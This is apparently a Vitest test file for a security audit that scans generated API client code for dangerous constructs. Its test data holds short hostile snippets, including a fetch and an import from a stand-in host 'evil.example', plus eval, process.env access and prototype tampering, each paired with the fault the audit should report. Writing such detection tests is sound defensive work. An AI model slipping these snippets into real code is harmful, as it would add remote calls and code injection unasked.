import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { emit } from '../../src/client/emit.ts';
import { plan } from '../../src/client/plan/plan.ts';
import { INTEGRATIONS } from '../../src/model/api.ts';
import { auditFiles } from '../../src/output/audit.ts';
import { generate } from '../../src/tasks/generate.ts';
import { hostileApi } from '../support/hostile.ts';

const CLOSE = 'specs/close.yaml';

function found(text: string): string[] {
  return auditFiles([{ path: 'a.ts', text }]).map(({ line, column, what }) => `${line}:${column} ${what}`);
}

describe('the audit', () => {
  it.each([CLOSE, 'specs/places.yaml'])(
    'finds nothing in what is generated from %s, integrations included',
    async (document) => {
      const { files } = await generate({ document, with: INTEGRATIONS });
      expect(files.length).toBeGreaterThan(40);
      expect(auditFiles(files)).toEqual([]);
    },
  );

  it('finds nothing in a client with hostile texts and names in it', () => {
    expect(auditFiles(emit(plan(hostileApi(), { importExtension: 'js', enums: 'object' }, () => {})))).toEqual([]);
  });

  it.each([
    ['fetch("https://evil.example");', ['1:1 runs when the client is imported', "1:1 uses the global 'fetch'"]],
    ['const a = process.env;', ["1:11 uses the global 'process'"]],
    ['export function f(a: string) {\n  return eval(a);\n}', ["2:10 uses the global 'eval'"]],
    ['export class A {\n  b = globalThis;\n}', ["2:7 uses the global 'globalThis'"]],
    ['const a = { [fetch]: 1 };', ["1:14 uses the global 'fetch'"]],
    ['const a = { fetch };', ["1:13 uses the global 'fetch'"]],
    ['class A extends Function {}', ["1:17 uses the global 'Function'"]],
    ["import a from 'node:fs';", ["1:1 imports from 'node:fs'"]],
    ["export * from 'https://evil.example/a.js';", ["1:1 imports from 'https://evil.example/a.js'"]],
    ["const a = () => import('./a.js');", ['1:17 imports at run time']],
    ['const a = import.meta.url;', ['1:11 reads import.meta or new.target']],
    ['const f = (a: unknown) => a; const b = f`x`;', ['1:40 calls a function with a template']],
    ["const a = { '__proto__': undefined };", ['1:13 sets the prototype of an object']],
    ['const a = (b: object) => b.constructor;', ["1:26 uses a 'constructor' member"]],
    ["const a = (b: object) => b['constructor'];", ["1:26 uses a 'constructor' member"]],
    ['if (true) {}', ['1:1 runs when the client is imported']],
    ["const a = 'b", ['1:13 does not parse: Unterminated string literal.']],
  ])('finds the faults of %s', (text, expected) => {
    expect(found(text)).toEqual(expected);
  });

  it('takes names, texts and types for what they are', () => {
    const text = `
      import { call } from './runtime/call.js';
      /** \`\${fetch()}\` */
      export interface A { fetch: 'eval'; b: typeof globalThis; }
      const spec = { fetch: 'eval(1)', ['__proto__']: 1, a: call };
      export function eval_(params: A): unknown { return call(params.fetch, spec.fetch); }
      export class B { readonly constructor_ = 1; fetch(): void {} }
    `;
    expect(found(text)).toEqual([]);
  });

  it('leaves out the runtime, which is not made from the document', () => {
    const text = readFileSync('templates/runtime/transport/send.ts', 'utf8');
    expect(auditFiles([{ path: 'runtime/transport/send.ts', text }])).toEqual([]);
  });
});
